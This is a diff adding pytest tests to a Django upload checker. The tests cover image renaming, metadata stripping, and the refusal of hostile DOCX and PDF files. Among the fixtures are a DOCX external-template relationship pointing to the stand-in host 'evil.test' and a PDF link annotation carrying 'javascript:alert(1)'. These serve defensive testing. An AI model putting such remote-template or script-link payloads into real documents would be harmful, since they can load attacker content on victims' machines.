@@ -1,6 +1,7 @@
 """The upload checker: hostile files are refused with a message, ordinary ones are cleaned."""
 
 import io
+import zipfile
 from typing import Any
 
 import pytest
@@ -8,7 +9,14 @@ from django import forms
 from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
 from django.utils.datastructures import MultiValueDict
 from PIL import Image
-from pypdf import PdfReader
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from kinship.core.forms import CheckedFileField, CheckedFilesField
 from kinship.core.tests import hostile_files as files
@@ -108,6 +116,15 @@ def test_jpeg_comments_and_colour_profiles_are_removed() -> None:
     )
     for checked in (jpeg, png):
         assert "icc_profile" not in Image.open(io.BytesIO(checked.content)).info
+
+
+def test_an_heic_upload_converted_to_jpeg_downloads_as_jpg() -> None:
+    checked = check_upload(files.heic(), filename="IMG_0042.HEIC", policy=SCRIPTS)
+    assert checked.original_name == "IMG_0042.jpg"
+    gif = check_upload(files.gif(), filename="Our garden.gif", policy=SCRIPTS)
+    assert gif.original_name == "Our garden.png"
+    jpeg = check_upload(files.jpeg(), filename="Scan 3.JPEG", policy=SCRIPTS)
+    assert jpeg.original_name == "Scan 3.JPEG"
 
 
 def test_heic_photos_become_jpeg() -> None:
@@ -244,3 +261,69 @@ def test_too_many_pages_at_once() -> None:
     form = PagesForm(files=uploads)
     assert not form.is_valid()
     assert "at most 3 files" in form.errors["pages"][0]
+
+
+RELS = "word/_rels/document.xml.rels"
+REL = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
+    "</Relationships>"
+)
+
+
+def test_docx_with_an_ole_embedding_is_refused() -> None:
+    hostile = files.docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 64})
+    with pytest.raises(UploadRefused, match="embedded"):
+        check_upload(hostile, filename="pack.docx", policy=EVERYTHING)
+
+
+def test_docx_with_an_external_template_is_refused() -> None:
+    rels = REL.format(kind="attachedTemplate", target="http://evil.test/t.dotm").encode()
+    with pytest.raises(UploadRefused, match="template"):
+        check_upload(files.docx({RELS: rels}), filename="pack.docx", policy=EVERYTHING)
+
+
+def test_docx_with_an_external_hyperlink_is_accepted() -> None:
+    rels = REL.format(kind="hyperlink", target="https://www.gov.uk/").encode()
+    checked = check_upload(files.docx({RELS: rels}), filename="pack.docx", policy=EVERYTHING)
+    assert b"https://www.gov.uk/" in zipfile.ZipFile(io.BytesIO(checked.content)).read(RELS)
+
+
+def test_docx_authors_are_removed() -> None:
+    core = (
+        b'<?xml version="1.0"?><cp:coreProperties xmlns:cp="x" xmlns:dc="y">'
+        b"<dc:creator>Jessica Thornton</dc:creator><cp:lastModifiedBy>J Thornton"
+        b"</cp:lastModifiedBy><dc:title>Pack</dc:title></cp:coreProperties>"
+    )
+    comments = b'<w:comments><w:comment w:id="0" w:author="Jessica Thornton" w:initials="JT">'
+    hostile = files.docx({"docProps/core.xml": core, "word/comments.xml": comments})
+    checked = check_upload(hostile, filename="pack.docx", policy=EVERYTHING)
+    archive = zipfile.ZipFile(io.BytesIO(checked.content))
+    everything = b"".join(archive.read(name) for name in archive.namelist())
+    assert b"Thornton" not in everything and b"JT" not in everything
+    assert b"<dc:title>Pack</dc:title>" in everything
+    assert b"Spring moderation pack" in archive.read("word/document.xml")
+
+
+def test_pdf_with_a_javascript_link_is_refused() -> None:
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
+            NameObject("/A"): DictionaryObject(
+                {
+                    NameObject("/S"): NameObject("/URI"),
+                    NameObject("/URI"): TextStringObject("javascript:alert(1)"),
+                }
+            ),
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+    output = io.BytesIO()
+    writer.write(output)
+    with pytest.raises(UploadRefused, match="not a web or email address"):
+        check_upload(output.getvalue(), filename="a.pdf", policy=EVERYTHING)
